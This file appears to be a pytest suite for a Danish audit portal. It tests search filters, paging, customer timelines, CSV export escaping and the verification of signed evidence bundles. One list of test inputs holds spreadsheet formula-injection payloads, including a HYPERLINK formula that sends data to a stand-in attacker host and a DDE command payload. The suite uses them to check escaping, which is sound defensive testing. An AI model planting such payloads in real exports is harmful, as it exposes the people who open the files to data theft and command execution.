"""The auditor's pages with Flask's test client, logged in through the development IdP:
search, paging, the customer timeline, and the CSV and evidence bundle of what is shown."""

import contextlib
import csv
import datetime
import io
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from flask import url_for

from approval_ledger import cli
from development.demo import AGREEMENT_TITLE, PERSONS_BY_KEY, seed
from ledger.danish_time import DANISH_TIME
from ledger.evidence.bundle import ENTRIES_FILE, README_FILE, open_bundle, verify_bundle
from ledger.export import neutralized
from ledger.identity import Actor, person_uuid
from ledger.read_models import day_in_denmark
from ledger.search import EventIndex, Query
from ledger.storage.tables_of_our_own import OwnTables
from tests.ledger.test_search import stored_id, tamper
from tests.web.test_login import log_in
from web.audit import Links
from web.display import EVENT_NAMES

AARHUS = "55133018"
ODENSE = "35209115"
AUDITOR = PERSONS_BY_KEY["auditor"]


@pytest.fixture
def seeded(app):
    """The demo's history (customers, an agreement, approvals, a reset, a declaration and the
    auditor's role), and two refused logins: one with a verified identity, one without."""
    seed(app)
    app.record_login_rejected(reason="private-identity", idp="https://idp.example")
    app.record_login_rejected(
        reason="loa-too-low",
        idp="https://idp.example",
        person_uuid=PERSONS_BY_KEY["low"].person_uuid,
        cvr=AARHUS,
    )
    return app


@pytest.fixture
def portal(app, make_portal, seeded):
    return make_portal(app).test_client()


@pytest.fixture
def auditor(portal):
    log_in(portal, "auditor")
    return portal


def shown(page) -> list[int]:
    """The seq numbers of the events a page shows, in its order."""
    assert page.status_code == 200, page.text
    return [int(seq) for seq in re.findall(r'<th scope="row">(\d+)</th>', page.text)]


def newest_first(app, keep=lambda entry: True) -> list[int]:
    return [entry.seq for entry in app.signed_log.entries() if keep(entry)][::-1]


def agreement_id(app) -> str:
    return str(next(a.id for a in app.agreement_versions() if a.title == AGREEMENT_TITLE))


def test_the_auditor_sees_every_event_newest_first_each_verified(auditor, app):
    size = app.signed_log.checkpoint().size  # asked for, as the cadence soon makes one
    page = auditor.get("/revision/")
    assert shown(page) == newest_first(app)
    assert page.text.count('class="state-approved">Verificeret') == len(shown(page))
    assert page.text.count(f"Med i kontrolpunkt af størrelse {size}") == len(shown(page))
    assert "Erklæring afleveret" in page.text  # event types in Danish
    assert "Clara Christensen" in page.text  # the actor
    assert "Bo Berg er ikke tegningsberettiget" in page.text  # the details
    assert f"{AGREEMENT_TITLE}, version 2026.1" in page.text  # the agreement by name


def test_each_filter_finds_exactly_its_events(auditor, app):
    agreement = agreement_id(app)
    clerk, low = PERSONS_BY_KEY["odense-clerk"].person_uuid, PERSONS_BY_KEY["low"].person_uuid
    times = [entry.recorded_at for entry in app.signed_log.entries()]
    # The form's days are days in Denmark (between 23 and 24 UTC, already tomorrow's).
    first, last = (
        day_in_denmark(datetime.datetime.fromisoformat(t)) for t in (times[0], times[-1])
    )
    day = datetime.timedelta(days=1)
    cases = [
        ({"cvr": ODENSE}, lambda e: e.cvr == ODENSE),
        (
            {"aftale": agreement},
            lambda e: (
                str(getattr(e.event, "agreement_version_id", e.event.originator_id)) == agreement
            ),
        ),
        # The person who acted, given in NemLog-in's urn:uuid: form.
        (
            {"person": f"urn:uuid:{clerk.upper()}"},
            lambda e: e.actor is not None and e.actor.person_uuid == clerk,
        ),
        # The person a refused login concerns.
        ({"person": low}, lambda e: getattr(e.event, "person_uuid", None) == low),
        ({"type": "ApprovalReset"}, lambda e: e.event_type == "ApprovalReset"),
        (
            {"type": "Approved", "cvr": ODENSE},
            lambda e: e.event_type == "Approved" and e.cvr == ODENSE,
        ),
        ({"fra": str(first), "til": str(last)}, lambda e: True),
        ({"til": str(first - day)}, lambda e: False),
        ({"fra": str(last + day)}, lambda e: False),
    ]
    for query, keep in cases:
        expected = newest_first(app, keep)
        page = auditor.get("/revision/", query_string=query)
        assert shown(page) == expected, query
        if not expected:
            assert "Ingen hændelser passer til søgningen." in page.text
        else:
            assert len(expected) < len(list(app.signed_log.entries())) or "fra" in query


def test_the_form_keeps_the_search_and_offers_danish_event_names(auditor, app):
    agreement = agreement_id(app)
    page = auditor.get("/revision/", query_string={"type": "Approved", "aftale": agreement})
    assert '<option value="Approved" selected>Godkendt</option>' in page.text
    assert f'<option value="{agreement}" selected>' in page.text
    assert f"eksport.csv?aftale={agreement}&amp;type=Approved" in page.text
    assert f"eksport.zip?aftale={agreement}&amp;type=Approved" in page.text


def test_many_events_are_paged_newest_first(auditor, app):
    for _ in range(30):
        app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=AARHUS)
    expected = newest_first(app, lambda entry: entry.cvr == AARHUS)
    first = auditor.get("/revision/", query_string={"cvr": AARHUS})
    assert shown(first) == expected[:25]
    assert "side=2" in first.text
    assert "Næste side" in first.text
    second = auditor.get("/revision/", query_string={"cvr": AARHUS, "side": 2})
    assert shown(second) == expected[25:50]
    assert "Forrige side" in second.text
    assert f"side 2 af {-(-len(expected) // 25)}" in second.text
    beyond = auditor.get("/revision/", query_string={"cvr": AARHUS, "side": 99})
    assert shown(beyond) == []


def link(page, rel: str) -> str:
    (href,) = re.findall(rf'<a rel="{rel}" href="([^"]+)"', page.text)
    return href.replace("&amp;", "&")


def test_the_page_links_continue_from_the_event_shown_last_or_first(auditor, app):
    for _ in range(60):
        app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=AARHUS)
    expected = newest_first(app, lambda entry: entry.cvr == AARHUS)
    first = auditor.get("/revision/", query_string={"cvr": AARHUS})
    older = link(first, "next")
    assert f"efter={shown(first)[-1]}" in older
    assert "side=2" in older
    second = auditor.get(older)
    assert shown(second) == expected[25:50]
    third = auditor.get(link(second, "next"))
    assert shown(third) == expected[50:75]
    pages = -(-len(expected) // 25)
    assert f"side 3 af {pages}" in third.text
    # An event logged meanwhile does not move what the links continue from.
    app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=AARHUS)
    newer = link(third, "prev")
    assert f"foer={shown(third)[0]}" in newer
    assert "side=2" in newer
    assert shown(auditor.get(newer)) == expected[25:50]
    # The newest page is the newest: its link carries no event.
    assert "foer=" not in link(second, "prev")
    assert (
        shown(auditor.get(link(second, "prev")))
        == newest_first(app, lambda entry: entry.cvr == AARHUS)[:25]
    )
    bad = auditor.get("/revision/", query_string={"cvr": AARHUS, "efter": "x"})
    assert bad.status_code == 400


def test_a_page_number_beyond_the_counted_events_says_how_to_get_there(auditor, app, monkeypatch):
    monkeypatch.setattr("ledger.search.COUNTED", 30)
    for _ in range(60):
        app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=AARHUS)
    deep = auditor.get("/revision/", query_string={"cvr": AARHUS, "side": 3})
    assert deep.status_code == 200
    assert shown(deep) == []
    assert "Side 3 ligger ud over de første 30 hændelser" in deep.text
    second = auditor.get(link(auditor.get("/revision/", query_string={"cvr": AARHUS}), "next"))
    assert (
        shown(auditor.get(link(second, "next")))
        == newest_first(app, lambda entry: entry.cvr == AARHUS)[50:75]
    )


def test_the_timeline_of_a_customer(auditor, app):
    page = auditor.get(f"/revision/kunde/{ODENSE}")
    assert "Tidslinje for Odense Kommune (CVR 35209115)" in page.text
    assert shown(page) == newest_first(app, lambda entry: entry.cvr == ODENSE)
    approvals = auditor.get(f"/revision/kunde/{ODENSE}", query_string={"type": "Approved"})
    assert shown(approvals) == newest_first(
        app, lambda entry: entry.cvr == ODENSE and entry.event_type == "Approved"
    )
    unknown = auditor.get("/revision/kunde/29180008")  # a valid CVR, not a customer
    assert "ikke registreret som kunde" in unknown.text
    assert shown(unknown) == []
    assert f'href="/revision/kunde/{ODENSE}"' in auditor.get("/revision/").text


def test_the_newest_events_shown_are_proved_in_a_checkpoint_made_for_them(auditor, app):
    """A page asks the signed log for the checkpoint covering what it shows, as a receipt
    does, rather than showing the newest events as not yet covered until the cadence."""
    app.signed_log.checkpoint()
    app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=ODENSE)
    newest = max(entry.seq for entry in app.signed_log.entries())
    for path in (f"/revision/kunde/{ODENSE}", "/revision/"):
        page = auditor.get(path)
        assert shown(page)[0] == newest
        assert "Endnu ikke bevist i et checkpoint" not in page.text
        assert f"Med i kontrolpunkt af størrelse {newest + 1}" in page.text


def spreadsheet_rows(data: bytes) -> list[dict[str, str]]:
    """A CSV file's rows as Danish Excel reads one: UTF-8 after its byte order mark (which
    it needs to see the file as UTF-8), semicolons, the Excel dialect's quoting."""
    assert data.startswith(b"\xef\xbb\xbf"), data[:20]
    text = data[3:].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), dialect="excel", delimiter=";"))


def test_the_csv_holds_every_match_as_shown(auditor, app):
    for _ in range(30):
        app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=ODENSE)
    answer = auditor.get("/revision/eksport.csv", query_string={"cvr": ODENSE})
    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    assert answer.mimetype_params == {"charset": "utf-8"}
    assert "attachment" in answer.headers["Content-Disposition"]
    assert b"\r\n" in answer.data  # the line ends Excel expects
    rows = spreadsheet_rows(answer.data)
    assert [int(row["Nr."]) for row in rows] == newest_first(app, lambda e: e.cvr == ODENSE)
    assert len(rows) > 25  # every page, not only the first
    assert {row["Kontrol i portalen"] for row in rows} == {"Verificeret"}
    assert {row["CVR"] for row in rows} == {ODENSE}
    reset = next(row for row in rows if row["Hændelse"] == "Godkendelse nulstillet")
    assert reset["Begrundelse"].startswith("Bo Berg er ikke tegningsberettiget")
    bo = next(row for row in rows if row["Udført af"] == "Bo Berg")
    assert reset["Nulstiller godkendelsen med nr."] == bo["Nr."]  # the approval it undid
    clara = next(row for row in rows if row["Udført af"] == "Clara Christensen")
    assert clara["Hændelse"] == "Godkendt"
    assert clara["Sikringsniveau"] == "Høj"
    assert clara["Aftale"] == f"{AGREEMENT_TITLE}, version 2026.1"
    assert re.fullmatch(r"\d\d-\d\d-20\d\d \d\d:\d\d:\d\d", clara["Tidspunkt (dansk tid)"])
    refusal = next(row for row in rows if row["Afvisningskode"] == "replayed")
    assert refusal["Afvisningsårsag"] == "Login-svaret var allerede brugt (genafspillet)"
    # One column per fact: no cell holds JSON or a Python value.
    assert not any(cell.startswith(("{", "[")) for row in rows for cell in row.values())


FORMULAS = (
    '=HYPERLINK("https://angriber.example/?d="&A1;"Klik her")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
    "%1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")


def test_a_cell_starting_like_a_formula_gets_an_apostrophe_and_others_stay_as_they_are():
    # The ledger trims the texts it records, so a tab, CR or spaces first come only from
    # elsewhere (an older event, an import); the cell is safe all the same.
    for text in ("\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "-1", "|x", *FORMULAS):
        assert neutralized(text) == "'" + text
    for text in ("Odense Kommune", "Bo Berg", "2026-12-01", "a=b", "", "'=1"):
        assert neutralized(text) == text


@pytest.mark.parametrize("path", ["/revision/eksport.csv", "bundle"])
def test_formula_shaped_names_reach_the_spreadsheet_as_text(auditor, app, path, tmp_path):
    """A customer, a person and a reason named like formulas come out of both CSV files as
    text: every cell that a spreadsheet would take as a formula starts with an apostrophe."""
    operator = Actor(Actor.OPERATOR, "+operator()")
    for number, formula in enumerate(FORMULAS):
        app.grant_role(
            person_uuid=f"2a0e3b5c-55a1-4b7e-9c1d-{number:012d}",
            person_name=formula,
            role="auditor",
            cvrs=[],
            actor=operator,
        )
    app.register_customer(cvr="29180008", name=FORMULAS[0], actor=operator)
    if path == "bundle":
        bundle = fetch_bundle(auditor, tmp_path, "formulas.zip")
        with zipfile.ZipFile(bundle) as archive:
            data = archive.read("history.csv")
    else:
        data = auditor.get(path).data
    rows = spreadsheet_rows(data)
    cells = [cell for row in rows for cell in row.values()]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    assert "'+operator()" in cells
    unescaped = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert unescaped == []
    customer = next(row for row in rows if row["CVR"] == "29180008")
    assert customer["Kundens navn"] == "'" + FORMULAS[0]


def fetch_bundle(client, tmp_path: Path, name: str, **query) -> Path:
    answer = client.get("/revision/eksport.zip", query_string=query)
    assert answer.status_code == 200, answer.text
    assert answer.mimetype == "application/zip"
    path = tmp_path / name
    path.write_bytes(answer.data)
    return path


def test_the_bundle_of_a_search_verifies_and_holds_exactly_its_events(
    auditor, app, tmp_path, monkeypatch
):
    path = fetch_bundle(auditor, tmp_path, "odense.zip", cvr=ODENSE, type="Approved")
    chosen = [e for e in app.signed_log.entries() if e.cvr == ODENSE and e.event_type == "Approved"]
    report = verify_bundle(path, app.keyring.verifier_keys())
    assert report.ok, report.problems
    assert report.subset
    assert report.entries == len(chosen) == 2
    assert list(open_bundle(path).lines(ENTRIES_FILE)) == [e.leaf for e in chosen]
    keys = tmp_path / "keys"
    keys.write_text("".join(f"{k.line()}\n" for k in app.keyring.verifier_keys().values()))
    monkeypatch.setenv("LEDGER_DATA_DIR", str(tmp_path / "elsewhere"))
    assert cli.main(["verify", "--bundle", str(path), "--keys", str(keys)]) == 0
    assert cli.main(["verify", "--bundle", str(path)]) == 0  # with the keys inside it
    everything = fetch_bundle(auditor, tmp_path, "all.zip")
    report = verify_bundle(everything, app.keyring.verifier_keys())
    assert report.ok, report.problems
    assert not report.subset  # nothing filtered out: the full log, its root checked too
    assert report.entries == len(list(app.signed_log.entries()))


def test_an_auditor_limited_to_one_cvr_sees_and_exports_only_it(portal, app, tmp_path):
    app.grant_role(
        person_uuid=AUDITOR.person_uuid,
        person_name=AUDITOR.name,
        role="auditor",
        cvrs=[ODENSE],
        actor=Actor(Actor.OPERATOR, "test-operator"),
    )
    log_in(portal, "auditor")
    page = portal.get("/revision/")
    assert shown(page) == newest_first(app, lambda entry: entry.cvr == ODENSE)
    assert 0 not in shown(page)  # the log's own first event has no CVR
    assert "Du har adgang til hændelserne for CVR 35209115." in page.text
    person = {"person": PERSONS_BY_KEY["low"].person_uuid}  # a refusal for Aarhus
    assert shown(portal.get("/revision/", query_string=person)) == []
    assert portal.get("/revision/", query_string={"cvr": AARHUS}).status_code == 403
    assert portal.get(f"/revision/kunde/{AARHUS}").status_code == 403
    assert portal.get("/revision/eksport.csv", query_string={"cvr": AARHUS}).status_code == 403
    rows = spreadsheet_rows(portal.get("/revision/eksport.csv").data)
    assert {row["CVR"] for row in rows} == {ODENSE}
    bundle = fetch_bundle(portal, tmp_path, "limited.zip")
    report = verify_bundle(bundle, app.keyring.verifier_keys())
    assert report.ok
    assert report.subset  # never the full log
    assert report.entries == len(rows)


PAGES = (
    "/revision/",
    f"/revision/kunde/{AARHUS}",
    "/revision/eksport.csv",
    "/revision/eksport.zip",
)


def test_signatories_and_anonymous_visitors_are_refused(portal):
    for path in PAGES:
        anonymous = portal.get(path)
        assert anonymous.status_code == 302
        assert anonymous.headers["Location"].startswith("/saml/login?")
    log_in(portal, "aarhus")
    for path in PAGES:
        assert portal.get(path).status_code == 403


def test_bad_input_is_a_400_with_a_danish_message(auditor):
    cases = [
        ({"cvr": "123"}, "Et CVR-nummer består af 8 cifre"),
        ({"cvr": "55133019"}, "kontrolcifferet passer ikke"),
        ({"person": "Erik"}, "er ikke et UUID for en person"),
        ({"aftale": "nope"}, "er ikke id&#39;et på en aftaleversion"),
        ({"type": "Deleted"}, "Hændelsestypen"),
        ({"fra": "2026-13-01"}, "Fra-datoen »2026-13-01« findes ikke i kalenderen"),
        ({"fra": "1/13/2026"}, "Fra-datoen »1/13/2026« findes ikke i kalenderen"),
        ({"til": "i går"}, "Til-datoen skal være en dato"),
        ({"fra": "2026-11-29", "til": "2026-11-28"}, "Til-datoen ligger før fra-datoen"),
        ({"til": "9999-12-31"}, "for langt ude i fremtiden"),
        ({"side": "0"}, "Sidetallet"),
        ({"side": "-1"}, "Sidetallet"),
        ({"side": "to"}, "Sidetallet"),
        ({"side": "9" * 30}, "Sidetallet"),
    ]
    for query, message in cases:
        for path in ("/revision/", "/revision/eksport.csv", "/revision/eksport.zip"):
            if "side" in query and path != "/revision/":
                continue  # the exports hold every page
            answer = auditor.get(path, query_string=query)
            assert answer.status_code == 400, (path, query)
            assert message in answer.text, answer.text
    assert auditor.get("/revision/kunde/1234").status_code == 400
    assert "kontrolcifferet" in auditor.get("/revision/kunde/55133019").text


def test_a_tampered_event_shows_what_is_wrong(auditor, app):
    entry = next(e for e in app.signed_log.entries() if e.event_type == "HandedIn")
    tamper(
        app,
        "UPDATE stored_events SET state = ? WHERE originator_id = ? AND originator_version = ?",
        (entry.payload + b" ", stored_id(app, entry), entry.event.originator_version),
    )
    page = auditor.get("/revision/", query_string={"type": "HandedIn"})
    assert shown(page) == [entry.seq]
    assert "Hændelsens indhold passer ikke til bladets hash" in page.text
    assert "Verificeret" not in page.text


class _Structure(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.labels: set[str] = set()
        self.fields: list[str] = []
        self.headings: list[int] = []
        self.header_cells: list[dict] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "label":
            self.labels.add(attributes.get("for", ""))
        elif tag in ("input", "select") and attributes.get("type") != "hidden":
            self.fields.append(attributes.get("id", ""))
        elif re.fullmatch(r"h[1-6]", tag):
            self.headings.append(int(tag[1]))
        elif tag == "th":
            self.header_cells.append(attributes)


def test_the_page_has_labels_header_scopes_and_headings_in_order(auditor):
    structure = _Structure()
    structure.feed(auditor.get("/revision/").text)
    assert structure.fields
    assert set(structure.fields) <= structure.labels
    assert structure.headings[0] == 1
    assert all(b - a <= 1 for a, b in zip(structure.headings, structure.headings[1:], strict=False))
    assert structure.header_cells
    assert all(cell.get("scope") in ("col", "row") for cell in structure.header_cells)


def test_person_uuids_are_searched_in_the_form_the_ledger_keeps(auditor):
    clerk = PERSONS_BY_KEY["odense-clerk"].person_uuid
    assert person_uuid(f"urn:uuid:{clerk.upper()}") == clerk
    page = auditor.get("/revision/", query_string={"person": clerk})
    assert f'href="/revision/?person={clerk}"' in page.text


def test_the_bundle_says_in_danish_what_it_holds_and_verifies_with_or_without_that(
    auditor, app, tmp_path, monkeypatch
):
    path = fetch_bundle(auditor, tmp_path, "odense.zip", cvr=ODENSE)
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        read_me = archive.read(README_FILE).decode("utf-8")
        members = {name: archive.read(name) for name in names}
    assert README_FILE == "LÆS MIG.txt"
    for name in names:
        if name != README_FILE:
            assert name in read_me, name  # every file is explained
    assert "ledger verify --bundle" in read_me
    assert "delmængde" in read_me
    keys = tmp_path / "keys"
    keys.write_text("".join(f"{k.line()}\n" for k in app.keyring.verifier_keys().values()))
    monkeypatch.setenv("LEDGER_DATA_DIR", str(tmp_path / "elsewhere"))
    variants = {
        "without": {n: d for n, d in members.items() if n != README_FILE},
        "changed": members | {README_FILE: b"Alt er godkendt. Intet at kontrollere.\n"},
        "as-is": members,
    }
    for variant, files in variants.items():
        bundle = tmp_path / f"{variant}.zip"
        with zipfile.ZipFile(bundle, "w") as archive:
            for name, data in files.items():
                archive.writestr(name, data)
        report = verify_bundle(bundle, app.keyring.verifier_keys())
        assert report.ok, (variant, report.problems)
        assert cli.main(["verify", "--bundle", str(bundle), "--keys", str(keys)]) == 0, variant
    # What it says is not trusted: a changed entry fails whatever the text claims.
    entries = members[ENTRIES_FILE].replace(b'"seq":', b'"seq": ', 1)
    broken = tmp_path / "broken.zip"
    with zipfile.ZipFile(broken, "w") as archive:
        for name, data in (variants["changed"] | {ENTRIES_FILE: entries}).items():
            archive.writestr(name, data)
    assert not verify_bundle(broken, app.keyring.verifier_keys()).ok


def test_the_results_are_sorted_oldest_first_in_pages_of_the_size_asked_for(auditor, app):
    for _ in range(60):
        app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=AARHUS)
    oldest = newest_first(app, lambda entry: entry.cvr == AARHUS)[::-1]
    listing = {"cvr": AARHUS, "orden": "aeldste", "antal": "50"}
    first = auditor.get("/revision/", query_string=listing)
    assert shown(first) == oldest[:50]
    assert "ældste først; side 1 af 2" in first.text
    second = auditor.get(link(first, "next"))
    assert "orden=aeldste" in link(first, "next")
    assert shown(second) == oldest[50:]
    assert shown(auditor.get(link(second, "prev"))) == oldest[:50]
    everything = [entry.seq for entry in app.signed_log.entries()]
    page = auditor.get("/revision/", query_string={"orden": "aeldste", "antal": "25", "side": 2})
    assert shown(page) == everything[25:50]  # the whole log, a range of seq
    assert shown(auditor.get("/revision/", query_string={"antal": "100"})) == everything[::-1][:100]
    rows = spreadsheet_rows(auditor.get("/revision/eksport.csv", query_string=listing).data)
    assert [int(row["Nr."]) for row in rows] == oldest


def test_the_counts_per_event_type_are_of_the_search_and_link_to_each_type(auditor, app):
    for _ in range(3):
        app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=ODENSE)
    page = auditor.get("/revision/", query_string={"cvr": ODENSE})
    counts = dict(re.findall(r'type=(\w+)[^"]*"[^>]*>[^<]+</a>: (\d+)</li>', page.text))
    expected: dict[str, int] = {}
    for entry in app.signed_log.entries():
        if entry.cvr == ODENSE:
            expected[entry.event_type] = expected.get(entry.event_type, 0) + 1
    assert {kind: int(n) for kind, n in counts.items()} == expected
    assert "Login afvist</a>: 3" in page.text


def test_the_type_counts_are_each_bounded_as_the_total_is(app, seeded, monkeypatch):
    monkeypatch.setattr("ledger.search.COUNTED", 5)
    for _ in range(9):
        app.record_login_rejected(reason="replayed", idp="https://idp.example", cvr=ODENSE)
    index = EventIndex(app)
    index.refresh()
    counted = index.count_by_type(Query(), ["LoginRejected", "Approved", "HandedIn"])
    assert counted.counts == [
        ("LoginRejected", 5, False),
        ("Approved", 3, True),
        ("HandedIn", 1, True),
    ]
    odense = index.count_by_type(Query(cvr=ODENSE), ["LoginRejected", "Approved", "Published"])
    assert odense.counts == [("LoginRejected", 5, False), ("Approved", 2, True)]
    typed = index.count_by_type(Query(event_type="Approved"), ["LoginRejected"])
    assert typed.counts == [("Approved", 3, True)]  # the search's own type only


def index_statements(monkeypatch) -> list[str]:
    """The statements the search index runs from now on (its reads and its transactions')."""
    asked: list[str] = []
    rows, transaction = OwnTables.rows, OwnTables.transaction

    class Counted:
        def __init__(self, cursor):
            self.cursor = cursor

        def execute(self, statement, params=()):
            asked.append(statement)
            return self.cursor.execute(statement, params)

        def __getattr__(self, name):
            return getattr(self.cursor, name)

    @contextlib.contextmanager
    def counted_transaction(tables, **options):
        with transaction(tables, **options) as cursor:
            yield Counted(cursor)

    def counted_rows(tables, statement, params=()):
        asked.append(statement)
        return rows(tables, statement, params)

    monkeypatch.setattr(OwnTables, "rows", counted_rows)
    monkeypatch.setattr(OwnTables, "transaction", counted_transaction)
    return asked


def test_a_search_page_asks_the_index_the_same_few_statements_however_many_types(
    auditor, monkeypatch
):
    assert auditor.get("/revision/").status_code == 200  # the index has caught up
    asked = index_statements(monkeypatch)
    page = auditor.get("/revision/")
    assert "Hændelser pr. type" in page.text
    shown = len(asked)
    # The session, the refusal counts, the catch-up (twice: the search and the agreements),
    # the total, the page, the agreement versions, and one for the counts of every type;
    # and the openings of personal values (evidence format 2), once for the page's events
    # together and once for the auditor's own role assignment.
    assert shown <= 10
    more = {**EVENT_NAMES, **{f"Kind{n}": f"Slags {n}" for n in range(20)}}
    monkeypatch.setattr("web.audit.EVENT_NAMES", more)
    asked.clear()
    assert auditor.get("/revision/").text.count("<li><a href=") == page.text.count("<li><a href=")
    assert len(asked) == shown  # one statement counts every type


def test_a_bad_filter_is_shown_beside_its_field_and_the_form_keeps_what_was_written(auditor):
    query = {"cvr": "123", "fra": "32-12-2026", "person": "Erik", "antal": "7", "til": "1.12.2026"}
    page = auditor.get("/revision/", query_string=query)
    assert page.status_code == 400
    assert "<table" not in page.text  # no results for a search that cannot be made
    for name, value in query.items():
        assert re.search(rf'id="{name}" name="{name}" value="{re.escape(value)}"', page.text) or (
            name == "antal"
        ), name
    for name in ("cvr", "fra", "person", "antal"):
        assert f'id="{name}-fejl" class="field-error"' in page.text, name
        assert re.search(rf'id="{name}"[^>]*aria-describedby="[^"]*{name}-fejl', page.text), name
    assert 'id="til-fejl"' not in page.text  # 1.12.2026 is a date
    assert "Et CVR-nummer består af 8 cifre" in page.text
    assert "Fra-datoen »32-12-2026« findes ikke i kalenderen" in page.text
    words = auditor.get("/revision/", query_string={"fra": "i går"})
    assert "Fra-datoen skal være en dato som 1-12-2026, 1.12.2026 eller 2026-12-01" in words.text


def test_dates_are_read_as_danes_write_them_in_danish_time(auditor, app):
    times = [entry.recorded_at for entry in app.signed_log.entries()]
    day = datetime.datetime.fromisoformat(times[-1]).astimezone(DANISH_TIME).date()
    everything = newest_first(app)
    for written in (
        f"{day.day}-{day.month}-{day.year}",
        f"{day.day}.{day.month}.{day.year}",
        f"{day.day:02d}/{day.month:02d}/{day.year}",
        day.isoformat(),
    ):
        page = auditor.get("/revision/", query_string={"fra": written, "til": written})
        assert page.status_code == 200, written
        expected = [
            entry.seq
            for entry in app.signed_log.entries()
            if datetime.datetime.fromisoformat(entry.recorded_at).astimezone(DANISH_TIME).date()
            == day
        ][::-1]
        assert shown(page) == expected == everything, written
    later = day + datetime.timedelta(days=1)
    page = auditor.get(
        "/revision/", query_string={"fra": f"{later.day}-{later.month}-{later.year}"}
    )
    assert shown(page) == []


def test_the_results_links_are_the_addresses_url_for_makes(app, make_portal, seeded):
    """Links asks url_for once per endpoint and puts each value in place of a stand-in;
    a value url_for would quote (or cannot take) is url_for's own address."""
    portal = make_portal(app)
    values = ("55133018", "0b7f6a8e-2c1d-4e0f-9a3b-5c6d7e8f9a0b", "a b", "x&y=z", "æ", "", 17)
    with portal.test_request_context("/revision/", base_url="http://portal.example/under"):
        links = Links()
        for endpoint, name in (
            ("audit.search", "aftale"),
            ("audit.search", "person"),
            ("audit.timeline", "cvr"),
        ):
            for value in values:
                if endpoint == "audit.timeline" and value == "":
                    continue  # no such address
                assert links(endpoint, name, value) == url_for(endpoint, **{name: value})
        for seq in (0, 7, 1_000_000):
            assert links("signatory.receipt", "seq", seq) == url_for("signatory.receipt", seq=seq)
        assert links("signatory.receipt", "seq", 7) == "/under/kvitteringer/7"
